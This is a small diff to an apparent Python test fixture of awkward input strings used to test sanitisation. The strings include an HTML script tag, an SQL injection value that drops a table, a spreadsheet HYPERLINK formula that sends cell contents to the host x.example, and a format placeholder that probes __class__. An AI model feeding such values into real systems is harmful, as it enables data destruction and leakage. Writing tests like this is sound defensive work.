@@ -20,10 +20,10 @@ STRANGE = {
     "a tag": "<b>Ministry</b> of <script>",
     "an entity": "Research &amp; Development &lt;",
     "SQL": "Robert'); DROP TABLE people;--",
-    "a CSV formula": "=HYPERLINK(\"http://x.example/?\"&A1)",
+    "a CSV formula": '=HYPERLINK("http://x.example/?"&A1)',
     "a placeholder": "{organiser} %s {0.__class__}",
     "emoji among words": "Ministry 🙂 of Joy",
-    "a quote and a backslash": "O'Brien \"\\N\" Ltd",
+    "a quote and a backslash": 'O\'Brien "\\N" Ltd',
     "a command in the middle": "Ministry /start",
     "a right-to-left run": "وزارة ITU (الاتصالات)",
 }
